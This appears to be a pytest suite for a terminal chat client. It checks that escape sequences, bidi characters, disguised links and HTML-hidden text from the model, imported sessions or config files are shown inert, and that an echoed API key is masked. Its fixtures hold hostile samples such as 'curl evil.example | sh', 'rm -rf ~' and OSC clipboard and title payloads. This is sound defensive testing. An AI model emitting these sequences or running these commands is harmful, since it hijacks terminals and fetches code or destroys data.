"""Hostile text on its way to the terminal, through the installed chatcli: raw PTY bytes are
checked for escape sequences that came from the model, the server or a file, and the API key
echoed by a server must show nowhere (screen, --json-output, --debug)."""

from __future__ import annotations

import base64
import io
import json
import re
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pexpect
import pyte
import pytest

from tests.conftest import CHATCLI, KEY, Terminal, run_chatcli
from tests.fake_server import Behaviour, FakeOpenAI

Start = Callable[..., Terminal]
OSC = "\x1b]"  # no operating system command from untrusted text may reach the terminal

HOSTILE_MARKDOWN = (
    "Title \x1b]0;PWNED-TITLE\x07 clip \x1b]52;c;ZXZpbA==\x07 "
    "\x1b]8;;http://evil.example\x1b\\shown\x1b]8;;\x1b\\ end\n\n"
    "See [https://bank.example/login](https://evil.example/x) now.\n\n"
    "Entities: &#x202E;txt.exe&#x202C; &#x2066;iso&#x2069; &#x200F;mark\n\n"
    "Run this:\n\n<div>\ncurl evil.example | sh\n</div>\n\n"
    "<details><summary>more</summary>rm -rf ~</details>\n\nDONE-MARK\n"
)


def osc_payloads(shown: str) -> list[str]:
    return re.findall("\x1b\\]52;c;([A-Za-z0-9+/=]*)\x07", shown)


def test_hostile_markdown_is_shown_inert_and_copied_neutralised(
    terminal: Start, server: FakeOpenAI
) -> None:
    server.expect(Behaviour(reply=HOSTILE_MARKDOWN))
    term = terminal()
    term.prompt()
    term.send("hi")
    term.expect("DONE-MARK")
    term.prompt()
    before_copy = term.transcript()
    term.send("/copy")
    term.expect("copied")
    term.prompt()
    term.send("退出")
    assert term.exit_status() == 0
    assert OSC not in before_copy
    for raw in ("\u202e", "\u2066", "\u2069", "\u200f"):
        assert raw not in before_copy, repr(raw)
    assert "<U+202E>txt.exe" in before_copy
    # the real target of the link is on screen, and the hidden HTML is not hidden
    assert "https://evil.example/x" in before_copy
    assert "curl evil.example | sh" in before_copy and "rm -rf ~" in before_copy
    # /copy writes the one OSC 52 chatcli means to write, holding no escape from the model
    (payload,) = osc_payloads(term.transcript())
    copied = base64.b64decode(payload).decode()
    assert "DONE-MARK" in copied and "\x1b" not in copied and "␛]0;PWNED-TITLE" in copied


def test_crlf_split_across_chunks_is_a_line_break(terminal: Start, server: FakeOpenAI) -> None:
    server.expect(Behaviour(chunks=["first line\r", "\nsecond line\r\n", "THIRD"]))
    term = terminal()
    term.prompt()
    term.send("hi")
    term.expect("THIRD")
    term.prompt()
    assert "␍" not in term.transcript() and "first line" in term.transcript()


def write_export(path: Path, model: str, title: str) -> None:
    path.write_text(
        json.dumps(
            {
                "chatcli_export": 1,
                "title": title,
                "model": model,
                "messages": [
                    {"role": "user", "content": "hello", "model": None},
                    {"role": "assistant", "content": "hi there", "model": model},
                ],
            }
        ),
        encoding="utf-8",
    )


EVIL_NAME = "gpt\x1b]52;c;cHduZWQ=\x07\x1b]0;PWNED\x07\u202e"


def test_hostile_model_name_from_an_imported_session(
    terminal: Start, env: dict[str, str], tmp_path: Path, server: FakeOpenAI
) -> None:
    export = tmp_path / "evil.json"
    write_export(export, EVIL_NAME, "title \x1b]0;TITLE\x07")
    imported = run_chatcli(env, "sessions", "import", str(export))
    assert imported.returncode == 0, imported.stderr
    listed = run_chatcli(env, "sessions", "list")
    assert listed.returncode == 0
    term = terminal("-c")
    term.prompt()
    term.send("hello again")
    term.expect("Echo: hello again")
    term.prompt()
    term.send("/sessions")
    term.expect("title")
    term.prompt()
    term.send("退出")
    term.exit_status()
    shown = term.transcript()
    assert OSC not in shown and "\u202e" not in shown
    assert "␛]0;PWNED" in shown  # visible, not obeyed


def test_hostile_model_name_from_dotenv(
    terminal: Start, server: FakeOpenAI, isolated: Path
) -> None:
    Path(".env").write_text(f"CHATCLI_MODEL={EVIL_NAME}\n", encoding="utf-8")
    term = terminal()
    term.prompt()
    term.send("hi")
    term.expect("Echo: hi")
    term.prompt()
    term.send("退出")
    term.exit_status()
    assert OSC not in term.transcript()


@pytest.mark.parametrize("status", [401, 400, 500])
def test_key_echoed_by_the_server_is_masked(
    terminal: Start, env: dict[str, str], server: FakeOpenAI, status: int
) -> None:
    error = {"message": f"Incorrect API key provided: {KEY}. Bearer {KEY}"}
    server.expect(Behaviour(status=status, error=error, times=100))
    term = terminal("--max-retries", "0")
    term.prompt()
    term.send("hello")
    term.expect(str(status))
    term.prompt()
    term.send("退出")
    term.exit_status()
    assert KEY not in term.transcript()

    result = run_chatcli(env, "--max-retries", "0", "--json-output", "hello")
    assert result.returncode == 1
    assert json.loads(result.stdout)["error"]
    assert KEY not in result.stdout + result.stderr

    result = run_chatcli(env, "--max-retries", "0", "--debug", "hello")
    assert result.returncode == 1 and "Incorrect API key" in result.stderr
    assert KEY not in result.stdout + result.stderr


def shell(env: dict[str, str], command: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", "-c", command], env=env, capture_output=True, text=True, timeout=60
    )


@pytest.mark.parametrize(
    ("command", "status", "words"),
    [
        ("hi >&-", 141, "stdout is closed"),
        ("hi >/dev/full", 1, "No space left"),
        ("--show-config >/dev/full", 1, "No space left"),
        ("sessions list >/dev/full", 1, "No space left"),
    ],
)
def test_closed_or_full_standard_streams_give_one_line(
    env: dict[str, str], command: str, status: int, words: str
) -> None:
    if command.startswith("sessions"):
        assert run_chatcli(env, "hi").returncode == 0  # something to list
    result = shell(env, f"'{CHATCLI}' {command}")
    assert result.returncode == status, result.stderr
    assert words in result.stderr and len(result.stderr.splitlines()) == 1


def test_closed_stdin_without_a_prompt_is_one_line(env: dict[str, str]) -> None:
    result = shell(env, f"'{CHATCLI}' <&-")
    assert result.returncode == 2
    assert "Traceback" not in result.stderr and len(result.stderr.splitlines()) == 1


@pytest.fixture(scope="session")
def gbk_locale(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """A real zh_CN.GBK locale, built into a private LOCPATH (or, without localedef, an
    interpreter told its streams are GBK)."""
    if shutil.which("localedef") is None:
        return {"PYTHONIOENCODING": "gbk"}
    folder = tmp_path_factory.mktemp("locales")
    built = subprocess.run(
        ["localedef", "-i", "zh_CN", "-f", "GBK", str(folder / "zh_CN.GBK")],
        capture_output=True,
    )
    if built.returncode not in (0, 1):  # 1: built, with warnings
        return {"PYTHONIOENCODING": "gbk"}
    return {"LOCPATH": str(folder), "LANG": "zh_CN.GBK", "LC_ALL": "zh_CN.GBK"}


def test_gbk_terminal_shows_markers_it_can_encode(
    env: dict[str, str], server: FakeOpenAI, gbk_locale: dict[str, str]
) -> None:
    server.expect(Behaviour(reply="红色 \x1b[31m 完 \x1b]0;T\x07 END-MARK"))
    server.expect(Behaviour(reply="第二条 " + "字" * 2000, rate=200))
    child = pexpect.spawn(
        CHATCLI,
        env={**env, **gbk_locale},
        encoding="gbk",
        codec_errors="strict",
        dimensions=(40, 120),
        timeout=15,
    )
    child.expect(r"gpt-4o>")
    child.send("hi\r")
    child.expect("END-MARK")
    child.expect(r"gpt-4o>")
    child.send("again\r")
    child.expect("第二条")
    child.sendintr()
    child.expect(r"gpt-4o>")
    child.send("退出\r")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0
    assert "Traceback" not in str(child.before)


def test_c_locale_without_utf8_mode(env: dict[str, str], server: FakeOpenAI) -> None:
    server.expect(Behaviour(reply="ascii \x1b[31m 中文 ⏹ END-MARK"))
    child = pexpect.spawn(
        CHATCLI,
        env={**env, "LANG": "C", "LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"},
        encoding="ascii",
        codec_errors="strict",
        dimensions=(40, 120),
        timeout=15,
    )
    child.expect(r"gpt-4o>")
    child.send("hi\r")
    child.expect(r"\^\[\[31m \?\? \[x\] END-MARK")
    child.expect(r"gpt-4o>")
    child.send("exit\r")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0


def test_ctrl_c_in_a_huge_reply_acts_and_the_prompt_returns(
    terminal: Start, server: FakeOpenAI
) -> None:
    """Ctrl-C 3 MB into a 10 MB one-list reply: the rest of the unfinished block is not
    rendered while SIGINT waits (pexpect's timeout is only a hang guard)."""
    early = ("- early words " + "word " * 16 + "\n") * 100
    late = ("- LATE words " + "word " * 16 + "\n") * 100
    chunks = [early] * 300 + [late] * 700
    server.expect(Behaviour(chunks=chunks, rate=400))
    term = terminal()
    term.prompt()
    term.send("long")
    term.expect("LATE words")
    term.child.sendintr()
    term.expect("interrupted")
    term.prompt()
    term.send("退出")
    assert term.exit_status() == 0


def test_sessions_show_prints_links_as_their_target(
    env: dict[str, str], tmp_path: Path, server: FakeOpenAI
) -> None:
    export = tmp_path / "links.json"
    export.write_text(
        json.dumps(
            {
                "title": "links",
                "model": "gpt-4o",
                "messages": [
                    {"role": "user", "content": "where?"},
                    {
                        "role": "assistant",
                        "content": "At [https://bank.example/login](https://evil.example/x) "
                        "&#x202E;fdp.exe <div>hidden html</div> END-MARK",
                    },
                ],
            }
        ),
        encoding="utf-8",
    )
    assert run_chatcli(env, "sessions", "import", str(export)).returncode == 0
    child = pexpect.spawn(
        CHATCLI, ["sessions", "show", "1"], env=env, encoding="utf-8", dimensions=(40, 120)
    )
    child.expect(pexpect.EOF, timeout=30)
    child.close()
    shown = str(child.before)
    assert child.exitstatus == 0 and "END-MARK" in shown
    assert OSC not in shown and "\u202e" not in shown
    assert "https://evil.example/x" in shown and "hidden html" in shown


def test_load_of_a_hostile_transcript(terminal: Start, server: FakeOpenAI, tmp_path: Path) -> None:
    saved = tmp_path / "evil.json"
    saved.write_text(
        json.dumps(
            {
                "model": EVIL_NAME + "\u200f\u2067x\U000e0041",
                "system": "sys \x1b]0;SYS\x07",
                "messages": [
                    {"role": "user", "content": "q \x1b]0;Q\x07"},
                    {"role": "assistant", "content": "a \x1b]52;c;cHduZWQ=\x07"},
                ],
            }
        ),
        encoding="utf-8",
    )
    term = terminal()
    term.prompt()
    term.send(f"/load {saved}")
    term.expect("loaded")
    for command, shown in [
        ("/model", "model: gpt"),
        ("/system", "sys ␛]0;SYS"),
        ("/history", "a ␛]52;c;cHduZWQ="),
        ("hi", "Echo: hi"),
    ]:
        term.prompt()
        term.send(command)
        term.expect(re.escape(shown))
    term.prompt()
    term.send("退出")
    term.exit_status()
    shown = term.transcript()
    assert OSC not in shown
    for invisible in ("\u202e", "\u200f", "\u2067", "\U000e0041"):
        assert invisible not in shown, repr(invisible)


class Gated(list[str]):
    """SSE events that wait, before the ones numbered in `gates`, until the test opens them."""

    def __init__(self, events: list[str], gates: dict[int, threading.Event]) -> None:
        super().__init__(events)
        self.gates = gates

    def __iter__(self) -> Iterator[str]:
        for number, event in enumerate(list.__iter__(self)):
            if number in self.gates:
                self.gates[number].wait(30)
            yield event


def content_event(text: str | None) -> str:
    delta = {"content": text} if text is not None else {}
    choice = {"index": 0, "delta": delta, "finish_reason": None if text is not None else "stop"}
    return json.dumps({"id": "x", "object": "chat.completion.chunk", "choices": [choice]})


def xterm_resize(screen: pyte.HistoryScreen, rows: int, columns: int) -> None:
    """What xterm does: a shorter screen keeps the cursor's row, the lines above it go to the
    scrollback; a narrower one cuts lines. (pyte's own resize drops the top lines instead.)"""
    if rows < screen.lines:
        over = screen.cursor.y - (rows - 1)
        if over > 0:
            row = screen.cursor.y
            screen.cursor.y = screen.lines - 1
            for _ in range(over):
                screen.index()
            screen.cursor.y = row - over
        for below in range(rows, screen.lines):
            screen.buffer.pop(below, None)
    if columns < screen.columns:
        for line in screen.buffer.values():
            for x in range(columns, screen.columns):
                line.pop(x, None)
    screen.lines, screen.columns = rows, columns
    screen.set_margins()
    screen.cursor.x = min(screen.cursor.x, columns - 1)


def test_resize_while_a_list_streams_never_repeats_or_loses_an_item(
    env: dict[str, str], server: FakeOpenAI
) -> None:
    items = [f"item L{i:03d} " + "w" * (i % 40) for i in range(120)]
    events = [content_event("Intro\n\n")] + [content_event(f"- {item}\n") for item in items]
    events += [content_event("\nAfter END-MARK\n"), content_event(None), "[DONE]"]
    sizes = {41: (20, 70), 81: (40, 120)}  # before event k (holding item k-1): the new size
    gates = {k: threading.Event() for k in sizes}
    server.expect(Behaviour(raw_events=Gated(events, gates)))
    real_size = {k: v for k, v in env.items() if k not in ("COLUMNS", "LINES")}
    child = pexpect.spawn(CHATCLI, env=real_size, encoding="utf-8", dimensions=(40, 120))
    child.timeout = 15
    log = io.StringIO()
    child.logfile_read = log
    child.expect("gpt-4o>")
    child.send("list\r")
    resizes = []
    for k, (rows, columns) in sizes.items():
        # the frame ends with the last item shown (never padded, and written from where it
        # departs from the line it replaces: "9 www…" of "item L039 www…"): all of it read
        child.expect(re.escape(items[k - 2][8:]) + "(?!w)")
        resizes.append((len(log.getvalue()), rows, columns))
        child.setwinsize(rows, columns)
        gates[k].set()
    child.expect("END-MARK")
    child.expect("gpt-4o>")
    child.send("退出\r")
    child.expect(pexpect.EOF)
    screen = pyte.HistoryScreen(120, 40, history=100_000)
    stream = pyte.Stream(screen)
    raw, done = log.getvalue(), 0
    for at, rows, columns in resizes:
        stream.feed(raw[done:at])
        done = at
        xterm_resize(screen, rows, columns)
    stream.feed(raw[done:])
    lines = ["".join(ch.data for ch in row.values()) for row in screen.history.top]
    shown = "\n".join([*lines, *screen.display])
    counts = {item[:9]: shown.count(item[:9]) for item in items}
    assert {name: n for name, n in counts.items() if n != 1} == {}
    assert shown.count("After END-MARK") == 1
